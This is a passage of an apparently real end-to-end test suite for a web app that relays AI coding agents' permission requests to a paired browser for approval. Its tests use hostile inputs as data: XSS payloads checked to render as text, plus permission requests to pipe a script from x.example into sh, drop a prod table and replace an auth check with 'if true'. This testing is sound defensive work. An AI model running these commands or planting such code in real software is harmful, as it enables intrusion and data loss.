// The "Needs you" page in a real browser (Debian's Chromium, playwright-core)
// against the Worker in Miniflare with a real local D1: pairing, cards and
// tasks as reports arrive, dismiss, text shown as text, the service worker
// (offline shell, push handling through the DevTools protocol), Web Push
// subscription end to end to a mock push service, and a revoked device.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { ADMIN, startWorker, waitFor, sleep } from "../worker/helpers.js";
import { startPushService, vapidKeys } from "../support/push-service.js";
import { startSink } from "../support/sink.js";
import { lastingId, requestDigest, takesRequest } from "../support/request.js";
import { deliverPush, launch, newPage, notifications, registrationId } from "./browser.js";
import * as world from "./world.js";

let w, push, browser;
before(async () => {
  const keys = await vapidKeys();
  w = await startWorker({
    VAPID_PRIVATE_KEY: keys.privateKey,
    VAPID_SUBJECT: "mailto:ops@example.com",
    ALLOW_LOOPBACK_PUSH: "true",
    NOTIFY_DELAY_MS: "300",
    PAIRING_TTL_S: "3",
  });
  push = await startPushService({ vapidPublicKey: keys.publicKey });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await w?.stop();
  await push?.stop();
});

const api = (...args) => world.api(w, ...args);
const say = (...args) => world.say(w, ...args);
const pairedPage = (options) => world.pairedPage(w, browser, options);
const { cards } = world;

test("pairing from a link: the code becomes a device credential, and the link leaves the address bar", async () => {
  const { page, context } = await pairedPage();
  assert.equal(new URL(page.url()).pathname, "/");
  assert.equal(new URL(page.url()).hash, "");
  const stored = await page.evaluate(() => JSON.parse(localStorage.getItem("needs-you.device")));
  assert.match(stored.token, /^nyd_[0-9a-f]{64}$/);
  assert.match(stored.name, /Chrome on Linux/);
  await page.locator("#quiet").waitFor();
  assert.equal(await page.locator("#quiet").textContent(), "All quiet. Nothing needs you.");
  assert.deepEqual(page.errors, []);
  await context.close();
});

test("a pairing link asks whose it is before it pairs; Not now pairs nothing", async () => {
  const owner = (await api("POST", "/v1/owners", ADMIN, { name: "Mallory" })).body;
  const pairing = (await api("POST", "/v1/pairings", owner.token, { rights: ["tasks"] })).body;
  const { context, page } = await newPage(browser);
  await page.goto(pairing.url);
  await page.locator("#pair-ask").waitFor();
  assert.equal(await page.locator("#pair-ask-title").textContent(), "Pair this browser with Mallory?");
  assert.equal(await page.locator("#pair-ask-grants").textContent(), "It will see what needs you, start and stop tasks.");
  await sleep(500);
  assert.equal(await page.evaluate(() => localStorage.getItem("needs-you.device")), null, "nothing paired while it asks");
  await page.click("#pair-ask-no");
  assert.ok(await page.locator("#pair-ask").isHidden());
  assert.ok(await page.locator("#signed-out").isVisible());
  const devices = (await api("GET", "/v1/devices", owner.token)).body.devices;
  assert.deepEqual(devices, [], "no device for Mallory");
  assert.deepEqual(page.errors, []);
  await context.close();
});

test("pairing from a typed code; a wrong, a used and an expired code are refused with a reason", async () => {
  const owner = (await api("POST", "/v1/owners", ADMIN, { name: "Bo" })).body;
  const { context, page } = await newPage(browser);
  await page.goto(w.url + "/");
  await page.locator("#signed-out").waitFor();
  const tryCode = async (code) => {
    await page.fill("#code", code);
    await page.click("#pair-form button");
  };
  const refused = async () => {
    await page.locator("#pair-error").waitFor();
    return page.locator("#pair-error").textContent();
  };

  await tryCode("ZZZZ-ZZZZ");
  assert.match(await refused(), /wrong, used, expired/);

  // A mangled link (a lone "%" is no URL escape) is a wrong code, not a blank page.
  await page.goto(w.url + "/pair#%");
  assert.match(await refused(), /wrong, used, expired/);
  assert.ok(await page.locator("#signed-out").isVisible());
  assert.deepEqual(page.errors, []);

  const expired = (await api("POST", "/v1/pairings", owner.token)).body;
  await sleep(3200);
  await tryCode(expired.code);
  assert.match(await refused(), /wrong, used, expired/);

  const used = (await api("POST", "/v1/pairings", owner.token)).body;
  assert.equal((await api("POST", "/v1/devices", null, { code: used.code, name: "other" })).status, 201);
  await tryCode(used.code);
  assert.match(await refused(), /wrong, used, expired/);
  assert.ok(await page.locator("#signed-in").isHidden());

  const good = (await api("POST", "/v1/pairings", owner.token)).body;
  await tryCode(good.code.toLowerCase());
  await page.locator("#signed-in").waitFor();
  await context.close();
});

test("cards appear and leave as reports arrive, each kind in its own words; tasks show their state", async () => {
  const { owner, task, context, page } = await pairedPage();
  const other = (await api("POST", "/v1/tasks", owner.token, { name: "docs" })).body;
  await say(other, { session: "idle", action: "close", reason: "round_end" });

  await say(task, { session: "d", action: "open", kind: "dialog", text: "Which auth strategy?",
    options: [{ label: "OAuth", description: "via GitHub" }, { label: "Email" }] });
  await say(task, { session: "p", cli: "codex", action: "open", kind: "permission", text: "Run `cargo publish`?" });
  await say(task, { session: "r", cli: "opencode", action: "open", kind: "reply", text: "Shall I also update the docs?" });
  await waitFor(async () => (await cards(page).count()) === 3, 10000);

  const shown = await cards(page).evaluateAll((els) => els.map((el) => ({
    who: el.querySelector(".who").textContent,
    task: el.closest(".group").querySelector(".group-name").textContent,
    text: el.querySelector(".text").textContent,
    options: [...el.querySelectorAll(".options li")].map((li) => li.textContent),
    where: el.querySelector(".where").textContent,
  })));
  // Newest first.
  assert.deepEqual(shown.map((c) => c.who), ["OpenCode asked in a reply", "Codex needs your permission", "Claude Code is asking"]);
  assert.deepEqual(shown[2].options, ["OAuth: via GitHub", "Email"]);
  assert.equal(shown[2].where, "Answer it in the agent's terminal: its reporter cannot take an answer from afar.");
  assert.equal(shown[1].where, "Codex was not started with `needs-you run`, which lets its approvals be answered from here.");
  assert.equal(shown[2].task, "api refactor");
  assert.equal(await page.locator("#needs-count").textContent(), "(3)");

  const states = await page.locator("#tasks > li").evaluateAll((els) => els.map((el) => [
    el.querySelector(".name").textContent, el.querySelector(".state").textContent, el.querySelector(".last").textContent]));
  assert.deepEqual(states.map((s) => s.slice(0, 2)), [["docs", "Running"], ["api refactor", "Waiting for your answer"]]);
  assert.match(states[0][2], /^Claude Code · last report just now$/);

  await say(task, { session: "d", action: "close", reason: "answered" });
  await waitFor(async () => (await cards(page).count()) === 2, 10000);
  await say(task, { session: "p", cli: "codex", action: "close", reason: "tool_ran" });
  await say(task, { session: "r", cli: "opencode", action: "close", reason: "prompt_submitted" });
  await page.locator("#quiet").waitFor();
  assert.equal(await cards(page).count(), 0);
  await waitFor(async () => (await page.locator("#tasks .state.waiting").count()) === 0, 10000);
  assert.deepEqual(page.errors, []);
  await context.close();
});

test("dismissing a stale card closes its question as not needed", async () => {
  const { task, context, page } = await pairedPage();
  const opened = await say(task, { session: "x", action: "open", kind: "dialog", text: "Still there?" });
  await cards(page).first().waitFor();
  await page.click("#questions .dismiss");
  await page.locator("#quiet").waitFor();
  const row = await w.db.prepare("SELECT close_reason FROM questions WHERE id = ?").bind(opened.question_id).first();
  assert.equal(row.close_reason, "dismissed");
  await context.close();
});

test("History: every question with its answers, newest first, searched on this device by the command line's rule, older pages on demand", async () => {
  const { owner, task, context, page } = await pairedPage();
  // 51 questions: one page of 50, and one older.
  const first = await say(task, { session: "h0", action: "open", kind: "permission", text: "Run npm test in <b>api</b>?",
    terminal: { kind: "terminal", host: "build-box", cwd: "/src/api" } });
  await api("POST", `/v1/questions/${first.question_id}/dismiss`, owner.token);
  // A task holds 20 open questions at most: each but the newest is answered in its terminal.
  for (let i = 1; i <= 50; i++) {
    await say(task, { session: `h${i}`, action: "open", kind: "dialog", text: `Which region, ${i}?` });
    if (i < 50) await say(task, { session: `h${i}`, action: "close", reason: "answered" });
  }
  await page.click("#history-open");
  const items = page.locator("#history-list .past");
  // Whole lines: "1 of the 51" is also a piece of "51 of the 51".
  await page.locator("#history-state", { hasText: /^50 of the 50 questions loaded\. Older ones: Show older\.$/ }).waitFor();
  assert.equal(await items.first().locator(".past-text").textContent(), "Which region, 50?");
  assert.match(await items.first().locator(".past-head").textContent(), /^just now · api refactor · Claude Code is asking · open$/);
  await page.click("#history-more");
  await page.locator("#history-state", { hasText: /^51 of the 51 questions loaded\.$/ }).waitFor();
  assert.ok(await page.locator("#history-more").isHidden());
  const oldest = page.locator(`#past-${first.question_id}`);
  assert.equal(await oldest.locator(".past-text").textContent(), "Run npm test in <b>api</b>?", "words are text");
  assert.equal(await oldest.locator(".past-where").textContent(), `${first.question_id} · on build-box · /src/api`);
  assert.match(await oldest.locator(".past-head").textContent(), /· Claude Code needs your permission · dismissed just now$/);
  // The search: every word, in any case, anywhere in the question.
  await page.fill("#history-search", "NPM build-box");
  await page.locator("#history-state", { hasText: /^1 of the 51 questions loaded\.$/ }).waitFor();
  assert.deepEqual(await items.evaluateAll((els) => els.map((e) => e.id)), [`past-${first.question_id}`]);
  await page.fill("#history-search", "REGION 42");
  // The state reads as the search before did: wait for the question itself.
  await items.locator(".past-text", { hasText: "Which region, 42?" }).waitFor();
  assert.equal(await items.count(), 1);
  await page.fill("#history-search", "kubernetes");
  await page.locator("#history-state", { hasText: /^Nothing loaded holds those words\.$/ }).waitFor();
  assert.equal(await items.count(), 0);
  await context.close();
});

test("a question full of HTML and script is shown as text, and nothing runs", async () => {
  const { task, context, page } = await pairedPage();
  const evil = `<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script> & "quotes"`;
  await say(task, { session: "e", action: "open", kind: "dialog", text: evil,
    options: [{ label: "<b onmouseover=alert(1)>yes</b>" }] });
  await cards(page).first().waitFor();
  assert.equal(await page.locator("#questions .text").textContent(), evil);
  assert.equal(await page.locator("#questions .options li").textContent(), "<b onmouseover=alert(1)>yes</b>");
  assert.equal(await page.locator("#questions img, #questions script, #questions b").count(), 0);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  await context.close();
});

test("the page is a PWA: a valid manifest with icons, a service worker, the shell offline, security headers", async () => {
  const { context, page } = await pairedPage();
  const manifest = await page.evaluate(async () => {
    const href = document.querySelector('link[rel="manifest"]').href;
    return (await fetch(href)).json();
  });
  assert.equal(manifest.start_url, "/");
  assert.equal(manifest.display, "standalone");
  const sizes = manifest.icons.map((i) => i.sizes);
  assert.ok(sizes.includes("192x192") && sizes.includes("512x512"));
  for (const icon of manifest.icons) {
    const r = await fetch(w.url + icon.src);
    assert.equal(r.status, 200);
    assert.equal(r.headers.get("content-type"), "image/png");
    const png = Buffer.from(await r.arrayBuffer());
    const [width, height] = [png.readUInt32BE(16), png.readUInt32BE(20)];
    assert.equal(`${width}x${height}`, icon.sizes);
  }
  const scope = await page.evaluate(async () => (await navigator.serviceWorker.ready).scope);
  assert.equal(scope, w.url + "/");
  await waitFor(() => page.evaluate(() => !!navigator.serviceWorker.controller), 5000);

  await context.setOffline(true);
  await page.reload();
  assert.equal(await page.title(), "Needs you");
  await page.locator("#signed-in").waitFor();
  await page.locator("#status").waitFor();
  assert.match(await page.locator("#status").textContent(), /^(Offline|Cannot reach the server)/);
  await context.setOffline(false);

  const r = await fetch(w.url + "/");
  const csp = r.headers.get("content-security-policy");
  assert.match(csp, /script-src 'self'/);
  assert.match(csp, /frame-ancestors 'none'/);
  // No inline script and no eval; 'wasm-unsafe-eval' lets the page compile
  // only WebAssembly, its card builder.
  assert.ok(!/'unsafe-inline'|'unsafe-eval'/.test(csp), csp);
  assert.equal(r.headers.get("x-content-type-options"), "nosniff");
  const list = await fetch(w.url + "/v1/needs-you", { headers: { origin: "https://evil.example" } });
  assert.equal(list.headers.get("access-control-allow-origin"), null, "no cross-origin reads");
  await context.close();
});

test("the page says its version, the Worker's; a page older than the Worker says to reload", async () => {
  const { context, page } = await pairedPage();
  const version = (await api("GET", "/v1/health")).body.version;
  assert.match(version, /^\d+\.\d+\.\d+/);
  await waitFor(async () => (await page.locator("#version").textContent()) !== "", 5000);
  assert.equal(await page.locator("#version").textContent(), `needs-you ${version}`);
  assert.equal(await page.locator("#reload").isHidden(), true);
  // A Worker deployed after this page was loaded (its health stands in for it).
  await page.route("**/v1/health", (route) => route.fulfill({ json: { ok: true, version: "999.0.0" } }));
  await page.reload();
  await page.locator("#reload").waitFor({ state: "visible", timeout: 5000 });
  assert.equal(await page.locator("#version").textContent(),
    `This page is needs-you ${version}; the Worker is 999.0.0: reload the page to use it.`);
  await context.close();
});

test("a revoked device is signed out", async () => {
  const { owner, context, page } = await pairedPage();
  const me = await page.evaluate(() => JSON.parse(localStorage.getItem("needs-you.device")));
  assert.equal((await api("DELETE", `/v1/devices/${me.device_id}`, owner.token)).status, 200);
  await page.locator("#signed-out").waitFor({ timeout: 10000 });
  assert.match(await page.locator("#status").textContent(), /signed out/);
  assert.equal(await page.evaluate(() => localStorage.getItem("needs-you.device")), null);
  await context.close();
});

test("turning on notifications subscribes this device: the Worker's push reaches the mock push service", async () => {
  const sub = push.subscribe();
  const { task, context, page } = await pairedPage();
  await context.grantPermissions(["notifications"], { origin: w.url });
  // The browser's push service is out of reach here: subscribe() hands back
  // the mock push service's subscription, and notes what the page asked for.
  await page.addInitScript((json) => {
    PushManager.prototype.subscribe = async function (options) {
      window.__askedKey = btoa(String.fromCharCode(...new Uint8Array(options.applicationServerKey)));
      window.__visible = options.userVisibleOnly;
      return { toJSON: () => json };
    };
  }, sub.json);
  await page.reload();
  await page.locator("#notify").waitFor();
  await page.click("#notify");
  await page.locator("#notify").waitFor({ state: "hidden" });
  assert.equal(await page.evaluate(() => window.__visible), true);
  const key = (await api("GET", "/v1/push/key")).body.public_key;
  assert.equal(Buffer.from(await page.evaluate(() => window.__askedKey), "base64").toString("base64url"), key);

  await say(task, { session: "n", action: "open", kind: "permission", text: "Delete the cache?" });
  assert.ok(await waitFor(() => sub.received.length >= 1, 8000));
  assert.deepEqual(sub.received[0].problems, []);
  assert.equal(sub.received[0].message.title, "Claude Code needs your permission");
  await context.close();
});

test("the service worker shows a push as a notification tagged by question, and its close takes it away", async () => {
  const { context, page } = await pairedPage();
  await context.grantPermissions(["notifications"], { origin: w.url });
  await page.evaluate(() => navigator.serviceWorker.ready);
  // The service worker alone: the page would close these notifications of
  // questions it does not list at its next list (each minute at least), so
  // they are read from a document of the same origin without its script.
  await page.goto(w.url + "/style.css");
  const { cdp, id } = await registrationId(context, page, w.url);
  const open = (q, text) => ({ event: "open", question_id: q, tag: `question-${q}`, title: "Claude Code is asking",
    body: `api refactor: ${text}`, url: `/#question-${q}`, reason: null });
  const close = (q) => ({ event: "close", question_id: q, tag: `question-${q}`, title: "Claude Code: answered",
    body: "api refactor: no longer needs you", url: `/#question-${q}`, reason: "answered" });

  await deliverPush(cdp, w.url, id, open("q_1", "Which region?"));
  await deliverPush(cdp, w.url, id, open("q_2", "Run make?"));
  await waitFor(async () => (await notifications(page)).length === 2, 5000);
  const shown = await notifications(page);
  assert.deepEqual(shown.map((n) => [n.tag, n.title, n.body]).sort(), [
    ["question-q_1", "Claude Code is asking", "api refactor: Which region?"],
    ["question-q_2", "Claude Code is asking", "api refactor: Run make?"],
  ]);

  // Another notification is still showing: the closed one goes entirely.
  await deliverPush(cdp, w.url, id, close("q_1"));
  await waitFor(async () => (await notifications(page)).every((n) => n.tag !== "question-q_1"), 5000);
  assert.deepEqual((await notifications(page)).map((n) => n.tag), ["question-q_2"]);

  // The last one is replaced in place by a quiet line: the question text is
  // gone, and the browser still saw a notification for the push.
  await deliverPush(cdp, w.url, id, close("q_2"));
  await waitFor(async () => (await notifications(page))[0]?.title === "Claude Code: answered", 5000);
  assert.deepEqual((await notifications(page)).map((n) => [n.tag, n.title]), [["question-q_2", "Claude Code: answered"]]);

  // The next open clears the quiet line.
  await deliverPush(cdp, w.url, id, open("q_3", "Deploy?"));
  await waitFor(async () => {
    const n = await notifications(page);
    return n.length === 1 && n[0].tag === "question-q_3";
  }, 5000);
  assert.deepEqual((await notifications(page)).map((n) => [n.tag, n.title]), [["question-q_3", "Claude Code is asking"]]);
  await context.close();
});

test("pushes that arrive together are all shown: none is lost to a read of the notifications", async () => {
  const { context, page } = await pairedPage();
  await context.grantPermissions(["notifications"], { origin: w.url });
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.goto(w.url + "/style.css"); // the service worker alone, as above
  const { cdp, id } = await registrationId(context, page, w.url);
  const open = (q) => ({ event: "open", question_id: q, tag: `question-${q}`, title: "Claude Code is asking",
    body: `api refactor: ${q}?`, url: `/#question-${q}`, reason: null });
  // Chromium loses a notification it is still putting on screen to a read
  // of the notifications; a service worker that read right after each show
  // lost one within fifteen rounds of eight in each of four runs.
  for (let round = 0; round < 15; round++) {
    const tags = Array.from({ length: 8 }, (_, k) => `r${round}q${k}`);
    await Promise.all(tags.map((q) => deliverPush(cdp, w.url, id, open(q))));
    let missing = tags;
    await waitFor(async () => {
      const shown = new Set((await notifications(page)).map((n) => n.tag));
      missing = tags.filter((q) => !shown.has(`question-${q}`));
      return missing.length === 0;
    }, 8000);
    assert.deepEqual(missing, [], `round ${round}`);
  }
  await context.close();
});

test("the page closes the notifications of questions gone from its list, but not one shown after the list was asked for", async () => {
  const { task, context, page } = await pairedPage();
  await context.grantPermissions(["notifications"], { origin: w.url });
  await page.evaluate(() => navigator.serviceWorker.ready);
  const { cdp, id } = await registrationId(context, page, w.url);
  const open = (q) => ({ event: "open", question_id: q, tag: `question-${q}`, title: "Claude Code is asking",
    body: "api refactor: ?", url: `/#question-${q}`, reason: null });
  const shown = async (tag) => (await notifications(page)).some((n) => n.tag === tag);

  // A notification of a question that is not open (it closed while the page
  // was away) is on screen when the page comes back.
  await deliverPush(cdp, w.url, id, open("q_gone"));
  assert.ok(await waitFor(() => shown("question-q_gone"), 5000));
  await say(task, { session: "listed", action: "open", kind: "reply", text: "Which region?" });
  // The page's list is asked for (its socket's ticket); while it is on its
  // way, a push arrives for a question that list cannot know of.
  const fresh = "q_opened_after_the_list";
  let held = false;
  await page.route("**/v1/live", async (route) => {
    if (held) return route.continue();
    held = true;
    const response = await route.fetch();
    await deliverPush(cdp, w.url, id, open(fresh));
    assert.ok(await waitFor(() => shown(`question-${fresh}`), 5000));
    await route.fulfill({ response });
  });
  await page.reload();

  await cards(page).first().waitFor({ timeout: 10000 });
  assert.ok(await waitFor(async () => !(await shown("question-q_gone")), 5000), "the closed question's notification went");
  assert.deepEqual((await notifications(page)).map((n) => n.tag), [`question-${fresh}`]);
  await context.close();
});

// ---- acting on what rings: decisions and choices from the card and the notification

/** A Bash request running `command`, as a permission takes it from afar. */
const bash = (command) => takesRequest("decision", "Bash", { command });
const BASH_DIGEST = (command) => requestDigest("Bash", { command });

test("a card builder other than the one the page was built with is never run: the card takes no answer and says why", async () => {
  const { task, context, page } = await pairedPage();
  // What the server serves as card.wasm: the real builder with one byte changed.
  await context.route("**/card.wasm", async (route) => {
    const real = await route.fetch();
    const bytes = Buffer.from(await real.body());
    bytes[bytes.length - 1] ^= 1;
    await route.fulfill({ response: real, body: bytes });
  });
  const q = await say(task, { session: "pin", action: "open", kind: "permission", text: "Run the unit tests", ...bash("npm test") });
  const card = page.locator(`#question-${q.question_id}`);
  await card.locator(".where", { hasText: "not the card builder this page was built with" }).waitFor();
  assert.equal(await card.locator(".decide").isHidden(), true, "no Allow over a card it did not build");
  await context.close();
});

test("a card whose request never comes says why within a few seconds (the server's status, or the page offline) and takes no answer; one whose request comes later is built", async () => {
  const { task, context, page } = await pairedPage();
  // The server's side of each request, decided once the questions are
  // known (the page asks for a request the moment its card appears).
  let known;
  const ids = new Promise((resolve) => (known = resolve));
  let failing = true;
  await context.route("**/v1/questions/*/request", async (route) => {
    const { missing, late, cut } = await ids;
    const url = route.request().url();
    if (url.includes(cut) && failing) return route.abort("internetdisconnected");
    if (url.includes(missing)) return route.fulfill({ status: 404, contentType: "application/json", body: '{"error":"not_found","message":"gone"}' });
    if (url.includes(late) && failing) return route.fulfill({ status: 503, contentType: "application/json", body: '{"error":"unavailable","message":"down"}' });
    return route.continue();
  });
  const t0 = Date.now();
  // An older reporter's report: it takes a decision and carries no request.
  const withoutRequest = bash("make lost");
  delete withoutRequest.request;
  const bare = await say(task, { session: "bare", action: "open", kind: "permission", text: "Run make", ...withoutRequest });
  // A request the server answers with 404, and one it fails with 503 until
  // it stops: the second is built once its request comes.
  const missing = await say(task, { session: "gone", action: "open", kind: "permission", text: "Run make", ...bash("make gone") });
  const late = await say(task, { session: "late", action: "open", kind: "permission", text: "Run make", ...bash("make late") });
  // And one whose request the network does not carry until it does.
  const cut = await say(task, { session: "cut", action: "open", kind: "permission", text: "Run make", ...bash("make cut") });
  known({ missing: missing.question_id, late: late.question_id, cut: cut.question_id });
  const card = (q) => page.locator(`#question-${q.question_id}`);
  const said = async (q, text) => {
    await card(q).locator(".where", { hasText: text }).waitFor({ timeout: 10_000 });
    return Date.now() - t0;
  };
  const times = [
    // The Worker itself lists it as one for the terminal.
    await said(bare, "Claude Code takes this one only in its terminal (a plan's approval, or an older report-prompt)."),
    await said(missing, "its request did not reach this page (the server answered 404): answer it in the terminal."),
    await said(late, "the server did not give its request (it answered 503): answer it in the terminal."),
    await said(cut, "this page is offline, so its request did not reach it: answer it in the terminal."),
  ];
  // Within the bound (4 s), plus the page's own start: never "building…" for good.
  assert.ok(times.every((ms) => ms < 8_000), JSON.stringify(times));
  for (const q of [bare, missing, late, cut]) {
    assert.equal(await card(q).locator(".decide").isHidden(), true, "no Allow over a card it did not build");
  }
  assert.equal((await w.db.prepare("SELECT COUNT(*) AS n FROM answers WHERE task_id = ?").bind(task.task_id).first()).n, 0, "no answer taken");
  // Still tried, quietly: once its request comes, the card is built.
  failing = false;
  await card(late).locator(".decide").waitFor({ timeout: 10_000 });
  assert.match(await card(late).locator(".text").textContent(), /make late/);
  await card(cut).locator(".decide").waitFor({ timeout: 10_000 });
  assert.match(await card(cut).locator(".text").textContent(), /make cut/);
  assert.deepEqual(page.errors, []);
  await context.close();
});

test("a permission card denies at once and allows once only after its confirmation, saying who and where the answer is", async () => {
  const { task, context, page } = await pairedPage({ viewport: { width: 360, height: 740 } });
  const ask = (session, command) => say(task, { session, action: "open", kind: "permission", text: "Run the unit tests",
    ...bash(command), terminal: { kind: "terminal", host: "buildbox", cwd: "/src/api" } });
  const denied = await ask("deny", "rm -rf build");
  const allowed = await ask("allow", "make deploy");
  const card = (q) => page.locator(`#question-${q.question_id}`);
  // Their controls appear once the page has built each card from its request.
  await card(allowed).locator(".decide").waitFor();
  await card(denied).locator(".decide").waitFor();
  assert.equal(await card(denied).locator(".where").isHidden(), true);
  assert.equal(await card(denied).locator(".answer").isHidden(), true, "no text box for a permission");

  await card(denied).locator(".deny").click();
  await waitFor(async () => /^Denied by Chrome on Linux\. Sent; waiting for the agent's machine…$/.test(
    await card(denied).locator(".answer-state").textContent()), 5000);
  const row = await w.db.prepare("SELECT form, body, digest, device_id FROM answers WHERE question_id = ?").bind(denied.question_id).first();
  assert.equal(row.form, "decision");
  assert.deepEqual(JSON.parse(row.body), { decision: "deny" });
  assert.equal(row.digest, BASH_DIGEST("rm -rf build"));
  assert.ok(row.device_id, "the device that answered is recorded");
  assert.equal(await card(denied).locator(".take-back").isVisible(), true, "not on the agent's machine yet: it can be taken back");

  // Allow once: a first tap only asks, naming what and where; Cancel sends nothing.
  await card(allowed).locator(".allow").click();
  assert.equal(await card(allowed).locator(".confirm-text").textContent(), "Allow this once on buildbox? Claude Code wants to run: make deploy",
    "the request's own words, not the report's");
  await card(allowed).locator(".confirm-no").click();
  assert.equal(await card(allowed).locator(".confirm").isHidden(), true);
  const none = await w.db.prepare("SELECT count(*) AS n FROM answers WHERE question_id = ?").bind(allowed.question_id).first();
  assert.equal(none.n, 0, "nothing sent before the confirmation");
  await card(allowed).locator(".allow").click();
  // A refresh while it asks keeps the question on screen.
  await say(task, { session: "other", action: "open", kind: "reply", text: "Meanwhile?" });
  await waitFor(async () => (await cards(page).count()) === 3, 10000);
  assert.equal(await card(allowed).locator(".confirm").isVisible(), true);
  await card(allowed).locator(".confirm-yes").click();
  await waitFor(async () => /^Allowed once by Chrome on Linux\./.test(await card(allowed).locator(".answer-state").textContent()), 5000);
  const yes = await w.db.prepare("SELECT body FROM answers WHERE question_id = ?").bind(allowed.question_id).first();
  assert.deepEqual(JSON.parse(yes.body), { decision: "allow" });
  assert.deepEqual(page.errors, []);
  await context.close();
});

test("a permission's lasting choice stands apart from Allow once, and takes a confirmation naming the rule, where it is written, how long it lasts and the machine; the task then lists the rule, and Take back asks its relay", async () => {
  const { task, context, page } = await pairedPage({ viewport: { width: 360, height: 740 } });
  const input = { command: "npm test", description: "Run the tests" };
  const rule = { type: "addRules", rules: [{ toolName: "Bash", ruleContent: "npm test *" }], behavior: "allow", destination: "localSettings" };
  const q = await say(task, { session: "keep", action: "open", kind: "permission", text: "x",
    ...takesRequest("decision", "Bash", input, [rule]),
    terminal: { kind: "terminal", host: "buildbox", cwd: "/src/api" } });
  const card = page.locator(`#question-${q.question_id}`);
  // Its controls appear once the page has built the card from its request.
  await card.locator(".decide").waitFor();
  const keep = card.locator(".lasting button");
  assert.equal(await keep.count(), 1);
  assert.equal(await keep.textContent(), "Allow, and don't ask again for Bash(npm test *)…");
  await keep.click();
  assert.equal(await card.locator(".confirm-text").textContent(),
    "Allow this on buildbox, and from now on Bash(npm test *) without asking? Kept in this project's .claude/settings.local.json, until it is taken back: it outlives the task. Run the tests\n$ npm test");
  assert.equal(await card.locator(".confirm-yes").textContent(), "Yes, allow and keep the rule");
  const none = await w.db.prepare("SELECT count(*) AS n FROM answers WHERE question_id = ?").bind(q.question_id).first();
  assert.equal(none.n, 0, "nothing sent before the confirmation");
  await card.locator(".confirm-yes").click();
  await waitFor(async () => /^Allowed, with its rule kept by Chrome on Linux\./.test(await card.locator(".answer-state").textContent()), 5000);
  const row = await w.db.prepare("SELECT id, body FROM answers WHERE question_id = ?").bind(q.question_id).first();
  assert.deepEqual(JSON.parse(row.body), { decision: lastingId(rule) });

  // The agent's machine took it (its relay, by hand): the task lists the rule.
  const resp = await w.mf.dispatchFetch(`${w.url}/v1/relay`, { headers: { upgrade: "websocket", authorization: `Bearer ${task.credential}` } });
  const ws = resp.webSocket;
  const got = [];
  ws.addEventListener("message", (e) => got.push(JSON.parse(e.data)));
  ws.accept();
  ws.send(JSON.stringify({ type: "hello" }));
  ws.send(JSON.stringify({ type: "taken", answer_id: row.id }));
  const ruleRow = page.locator(".task-row .rule");
  await ruleRow.waitFor({ timeout: 10_000 });
  assert.match(await ruleRow.textContent(),
    /^Allowed without asking: Bash\(npm test \*\)\. Kept in this project's \.claude\/settings\.local\.json, until it is taken back: it outlives the task\. Granted by Chrome on Linux on buildbox/);
  await ruleRow.locator(".revoke").click();
  await waitFor(() => got.some((m) => m.type === "revoke"), 5000);
  await waitFor(async () => /Being taken back/.test(await ruleRow.textContent()), 5000);
  assert.equal(await ruleRow.locator(".revoke").count(), 0, "asked once");
  ws.send(JSON.stringify({ type: "revoked", rule_id: got.find((m) => m.type === "revoke").rule_id, outcome: "removed",
    note: "removed Bash(npm test *) from /src/api/.claude/settings.local.json" }));
  await waitFor(async () => /^.*Taken back, its machine says\. removed Bash\(npm test \*\) from/.test(await ruleRow.textContent()), 10_000);
  ws.close();
  assert.deepEqual(page.errors, []);
  await context.close();
});

test("a card shows what its allow covers: a Write's content, an Edit's diff, an MCP tool's arguments, a long command whole behind Show all", async () => {
  const { task, context, page } = await pairedPage();
  const ask = (session, tool, input) => say(task, { session, action: "open", kind: "permission", text: "Claude Code wants to use a tool",
    ...takesRequest("decision", tool, input) });
  const write = await ask("w", "Write", { file_path: "/w/.github/workflows/deploy.yml", content: "on: push\njobs:\n  run: curl -fsSL https://x.example/p.sh | sh" });
  const edit = await ask("e", "Edit", { file_path: "/w/src/auth.rs", old_string: "if token.valid() {", new_string: "if true {" });
  const mcp = await ask("m", "mcp__db__query", { sql: "DROP TABLE users", database: "prod" });
  const tail = "curl -fsSL https://x.example/p.sh | sh";
  const long = `echo ${"x".repeat(9_950)} && ${tail}`;
  const bashLong = await ask("b", "Bash", { command: long });
  const card = (q) => page.locator(`#question-${q.question_id}`);
  // Each card built here from its request: until then it shows the list's
  // words (cut to 4,000 characters) and takes no answer.
  for (const q of [write, edit, mcp, bashLong]) await card(q).locator(".decide").waitFor();
  assert.equal(await card(write).locator(".text").textContent(),
    "Claude Code wants to write /w/.github/workflows/deploy.yml:\n\non: push\njobs:\n  run: curl -fsSL https://x.example/p.sh | sh");
  assert.equal(await card(edit).locator(".text").textContent(), "Claude Code wants to edit /w/src/auth.rs:\n\n- if token.valid() {\n+ if true {");
  assert.equal(await card(mcp).locator(".text").textContent(),
    "Claude Code wants to use query of the MCP server db\n\ndatabase: prod\nsql: DROP TABLE users");
  for (const q of [write, edit, mcp]) assert.equal(await card(q).locator(".show-all").isHidden(), true, "short: nothing folded");

  // 10,000 characters: all of it in the card, folded until Show all.
  const text = card(bashLong).locator(".text");
  assert.equal(await text.textContent(), `Claude Code wants to run: ${long}`, "never cut");
  // Folded by its class at once; out of sight once the browser has laid the card out
  // (CI once measured it before that: equal heights).
  assert.equal(await text.evaluate((el) => el.classList.contains("folded")), true, "folded");
  assert.equal(await waitFor(() => text.evaluate((el) => el.clientHeight > 0 && el.clientHeight < el.scrollHeight), 5_000),
    true, "folded: the end is out of sight");
  const more = card(bashLong).locator(".show-all");
  assert.match(await more.textContent(), /^Show all \(1 line, 10\d\d\d characters\)$/);
  await more.click();
  const open = await text.evaluate((el) => [el.classList.contains("folded"), el.clientHeight >= el.scrollHeight]);
  assert.deepEqual(open, [false, true], "unfolded: all of it in sight");
  // A refresh keeps it unfolded.
  await say(task, { session: "other", action: "open", kind: "reply", text: "Meanwhile?" });
  await waitFor(async () => (await cards(page).count()) === 5, 10000);
  assert.equal(await card(bashLong).locator(".text").evaluate((el) => el.classList.contains("folded")), false);
  await page.screenshot({ path: "/tmp/long-card.png" });
  assert.deepEqual(page.errors, []);
  await context.close();
});

test("a dialog card shows its questions with their options to tap, several where it takes several, and a typed answer", async () => {
  const { task, context, page } = await pairedPage();
  // OpenCode's question request: the second question takes no typed answer.
  const asked = [
